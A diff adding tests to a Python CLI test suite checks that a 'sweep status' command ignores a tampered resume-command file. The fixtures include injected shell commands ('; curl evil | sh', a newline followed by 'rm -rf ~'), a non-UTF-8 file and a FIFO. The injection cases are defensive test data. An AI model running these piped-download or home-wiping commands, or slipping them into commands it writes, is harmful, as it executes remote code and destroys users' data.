@@ -356,6 +356,24 @@ def test_status_counts_done_partial_failed_pending(tmp_path):
     assert "members: 16 planned, 4 trained" in out
     assert "not aggregated yet" in out and "sweep aggregate" not in out
     assert f"next: resume it with `sweep run SPEC --storage {tmp_path} --resume`" in out
+    kept = root / "resume_command.txt"  # what a `sweep run` keeps: its command, said as it was run
+    for line in (
+        "sweep run x.toml --resume; curl evil | sh",
+        "sweep run x.toml --resume\nrm -rf ~",
+        "rm -rf ~ --resume",
+    ):
+        kept.write_text(line)  # not a command of its own words: a shell would run something else
+        assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
+    kept.write_bytes(b"sweep run \xff.toml --resume")  # not UTF-8
+    assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
+    kept.unlink()
+    os.mkfifo(kept)  # a reader of a FIFO would wait for a writer
+    assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
+    kept.unlink()
+    kept.write_text("sweep run '/my specs/x.toml' --storage /s --set seeds=8 --resume\n")
+    assert "resume it with `sweep run '/my specs/x.toml' --storage /s --set seeds=8 --resume` (as it was last run)" in (
+        invoke("status", root).output
+    )
     lines = {line.split()[0]: line.split()[1] for line in out.splitlines() if line.startswith(plan.config_ids)}
     assert lines == {t_running.trial_key: "partial", t_failed.trial_key: "failed", t_pending.trial_key: "pending"}
     assert "RuntimeError: boom" in next(x for x in out.splitlines() if x.startswith(t_failed.trial_key))
@@ -1071,6 +1089,8 @@ def test_run_progress_option_reaches_sweep_run(tmp_path, monkeypatch, choice, mo
     options = seen["options"]
     assert isinstance(options, sweep.RunOptions) and options.progress == mode and options.executor == "tune"
     assert ("--progress" in options.resume_command) == (choice is not None)
+    # absolute paths: the command resumes from any folder (and `sweep status` prints it)
+    assert options.resume_command.startswith(f"sweep run {tmp_path / 'spec.toml'} --storage {os.path.abspath('runs')} ")
     assert invoke("run", tmp_path / "spec.toml", "--executor", "local").exit_code == 0
     assert seen["options"].executor == "local" and "--executor local" in seen["options"].resume_command
     assert invoke("run", tmp_path / "spec.toml", "--progress", "loud").exit_code == 2  # click lists the choices
